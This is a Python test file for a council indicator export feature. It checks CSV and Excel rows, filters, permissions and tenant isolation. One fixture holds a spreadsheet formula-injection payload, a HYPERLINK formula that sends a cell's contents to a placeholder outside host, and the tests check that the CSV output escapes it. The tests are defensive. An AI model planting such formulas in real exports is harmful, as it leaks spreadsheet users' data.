"""Export of the indicator tables: one row for each value, the page's filters, and no text that a spreadsheet runs."""

import csv
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from councils.permissions import ROLE_PERMISSIONS, Permission, Role
from councils.tenancy import council_context
from tests.factories import (
    IndicatorFactory,
    KeyOutcomeFactory,
    PersonFactory,
    ReadingFactory,
    StrategyFactory,
    TargetFactory,
)
from tests.pages import FRAME

HOSTILE = '=HYPERLINK("https://elsewhere.example.org?"&A1, "Open")'


@pytest.fixture
def plan(cast):
    with council_context(cast.council.id):
        strategy = StrategyFactory(title="SEND plan")
        outcome = KeyOutcomeFactory(strategy=strategy, number="1", title="Inclusion")
        shared = {"strategy": strategy, "set": "main", "key_outcome": outcome}
        top = IndicatorFactory(**shared, label="2.1", title="Absence", kind="heading")
        olive = PersonFactory(initials="OF", name="Olive Firth")
        below = {"parent": top, "depth": 1, "polarity": "high"}
        every = IndicatorFactory(**shared, **below, label="a.", title="All", owner_person=olive)
        ReadingFactory(indicator=every, period="2014-15-Q4", value="82.5", numerator=33, denominator=40)
        ReadingFactory(indicator=every, period="2015-16-Q4", value=70, provisional=True, note="+1 school")
        TargetFactory(indicator=every, period="2016-03-31", value=75)
        IndicatorFactory(**shared, **below, label="b.", title=HOSTILE, unit="days", basis="quarter")


def address(cast, kind="csv"):
    return reverse("indicators:export", kwargs={"council": cast.council.slug, "kind": kind})


def read(cast, kind, query=None, role=Role.OFFICER):
    response = cast.client(role).get(address(cast, kind), query or {})
    assert response.status_code == 200
    if kind == "csv":
        rows = list(csv.reader(StringIO(response.content.decode("utf-8-sig"), newline="")))
    else:
        [page] = load_workbook(BytesIO(response.content)).worksheets
        rows = [list(row) for row in page.iter_rows(values_only=True)]
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_csv_says_everything_of_each_value(cast, plan):
    first, second, without = read(cast, "csv")
    public_id = first.pop("Id of the indicator")
    assert len(public_id) == 36
    assert first == {
        "Plan": "SEND plan",
        "Table": "Main indicators",
        "Key outcome": "1 Inclusion",
        "Label": "a.",
        "Title": "All",
        "Rows above": "2.1 Absence",
        "Unit": "Percent",
        "Direction": "Higher is better",
        "Owner": "Olive Firth (OF)",
        "Period": "2014-15-Q4",
        "Period in words": "Quarter 4 2014–15 (January to March 2015)",
        "Value": "82.5",
        "Numerator": "33",
        "Denominator": "40",
        "Code": "",
        "Why there is no figure": "",
        "Target": "75",
        "Target for": "2016-03-31",
        "Indicator RAG": "Green",
        "Provisional": "no",
        "Note": "",
        "Sample": "no",
    }
    assert (second["Value"], second["Indicator RAG"], second["Provisional"]) == ("70", "Red", "yes")
    assert second["Note"] == "'+1 school"
    assert (without["Unit"], without["Period"], without["Value"]) == ("Days", "", "")
    assert without["Title"] == f"'{HOSTILE}"


def test_excel_has_the_same_with_numbers(cast, plan):
    first, second, without = read(cast, "xlsx")
    assert (first["Value"], first["Numerator"], first["Denominator"]) == (82.5, 33, 40)
    assert second["Note"] == "+1 school"
    assert without["Title"] == HOSTILE


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_filters_of_the_page_apply(cast, plan, kind):
    assert {row["Title"] for row in read(cast, kind, {"show": "off_target"})} == {"All"}
    assert [row["Label"] for row in read(cast, kind, {"show": "no_figure"})] == ["b."]
    assert read(cast, kind, {"owner": "nobody", "show": "off_target"}) == []


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_file_has_a_name_with_the_day(cast, plan, kind):
    response = cast.client().get(address(cast, kind))
    assert response["Content-Disposition"] == f'attachment; filename="northport-indicators-2016-07-08.{kind}"'


def test_without_the_permission_for_names_the_owner_is_left_out(cast, plan, monkeypatch):
    may = ROLE_PERMISSIONS[Role.READER] - {Permission.PEOPLE_NAMES}
    monkeypatch.setitem(ROLE_PERMISSIONS, Role.READER, may)
    assert "Olive" not in str(read(cast, "csv", role=Role.READER))


def test_an_outsider_gets_no_file(cast, plan):
    assert cast.outsider_client().get(address(cast)).status_code == 404
    own = cast.outsider_client().get(address(cast).replace("northport", "southshire"))
    assert "All" not in own.content.decode()


def test_it_is_not_posted_to(cast):
    assert cast.client().post(address(cast)).status_code == 405


@pytest.mark.parametrize("rows", [1, 20])
def test_queries_do_not_grow(cast, plan, rows, django_assert_num_queries):
    with council_context(cast.council.id):
        for _ in range(rows):
            ReadingFactory()
    client = cast.client()
    with django_assert_num_queries(FRAME + 6):
        client.get(address(cast))
